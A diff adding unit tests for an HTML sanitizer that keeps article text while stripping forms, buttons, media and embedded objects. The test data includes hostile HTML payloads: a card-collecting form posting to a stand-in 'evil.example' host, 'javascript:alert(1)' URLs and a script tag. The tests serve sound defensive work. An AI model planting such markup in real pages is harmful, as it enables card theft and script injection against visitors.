@@ -83,6 +83,29 @@ describe('hostile HTML', () => {
     expect(result).not.toMatch(/id="(location|__proto__)"/)
   })
 
+  test.each([
+    '<form action="https://evil.example"><p>The harmless words.</p><label>Card <input name="card"></label></form>',
+    '<button formaction="javascript:alert(1)"><p>The harmless words.</p>',
+    '<select><p>The harmless words.</p>',
+    '<label><h2>The</h2> harmless words.',
+    '<video src="https://evil.example/x"><p>The harmless words.</p>',
+    '<object data="javascript:alert(1)"><p>The harmless words.</p>',
+    '<canvas><ul><li>The harmless words.</li></ul>',
+    '<map name="x"><blockquote>The harmless words.</blockquote>',
+    '<svg><foreignObject><p>The harmless words.</p></foreignObject></svg>',
+    '<noscript><p>The harmless words.</p>',
+  ])('leaves the words of an article: %s [BLOG-06]', (html) => {
+    expect(plainText(cleaned(html))).toBe('The harmless words.')
+    expect(plainText(html)).toBe('The harmless words.')
+  })
+
+  test('goes with its labels, buttons and texts for browsers that cannot show it', () => {
+    expect(cleaned('<label>Card</label><button>Pay</button><select><option>1</option></select><p>on</p>')).toBe(
+      '<p>on</p>',
+    )
+    expect(cleaned('<canvas>Your browser is too old.</canvas><p>on</p>')).toBe('<p>on</p>')
+  })
+
   test('is removed from names and excerpts, and escaped HTML stays text [BLOG-04]', () => {
     expect(plainText('Rock &amp; tides &#8211; <em>at</em> low<script>alert(1)</script> water')).toBe(
       'Rock & tides – at low water',
